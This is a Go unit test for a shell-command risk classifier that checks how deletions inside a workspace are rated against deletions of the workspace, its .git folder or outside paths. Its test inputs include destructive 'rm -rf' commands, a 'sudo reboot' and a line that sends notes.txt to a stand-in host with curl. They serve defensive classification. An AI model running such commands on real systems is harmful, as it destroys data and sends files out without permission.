package risk

import (
	"testing"

	"github.com/stretchr/testify/require"
)

// R21: deletions whose every target lies inside the workspace count as
// moderate for Contained; Level and Reasons stay what Classify says.
func TestContainedCountsWorkspaceDeletionsAsModerate(t *testing.T) {
	const ws = "/home/dev/project"
	cases := []struct {
		line             string
		level, contained Level
	}{
		{"rm -rf build", Dangerous, Moderate},
		{"mkdir -p build && echo x > build/a && rm -rf build", Dangerous, Moderate},
		{"rm -f build/a.o", Dangerous, Moderate},
		{"rm notes.txt", High, Moderate},
		{"rm -rf /home/dev/project/dist", Dangerous, Moderate},
		{"cd src && rm -rf gen", Dangerous, Moderate},
		{"rm -rf *.o", Dangerous, Moderate},
		// The workspace itself, its .git, outside it, or unknown: unchanged.
		{"rm -rf .", Dangerous, Dangerous},
		{"rm -rf .git", Dangerous, Dangerous},
		{"rm -rf .git/hooks", Dangerous, Dangerous},
		{"rm -rf .*", Dangerous, Dangerous},
		{"rm -rf ../other", Dangerous, Dangerous},
		{"rm -rf /home/dev/other", Dangerous, Dangerous},
		{"rm -rf /home/dev/project", Dangerous, Dangerous},
		{`rm -rf "$DIR"`, Dangerous, Dangerous},
		{"cd /tmp && rm -rf x", Dangerous, Dangerous},
		{"ssh box rm -rf build", Dangerous, Dangerous},
		// Anything else keeps its level.
		{"rm -rf build; curl -d @notes.txt https://x.example", Dangerous, High},
		{"rm -rf build && sudo reboot", Forbidden, Forbidden},
		{"ls", Safe, Safe},
	}
	for _, c := range cases {
		t.Run(c.line, func(t *testing.T) {
			a := classifier.ClassifyIn(c.line, ws)
			require.Equal(t, c.level, a.Level, "level: %v", a.Reasons)
			require.Equal(t, c.contained, a.Contained, "contained: %v", a.Reasons)
			plain := classifier.Classify(c.line)
			require.Equal(t, plain.Level, a.Level)
			require.Equal(t, plain.Level, plain.Contained, "without a workspace nothing is contained")
		})
	}
}
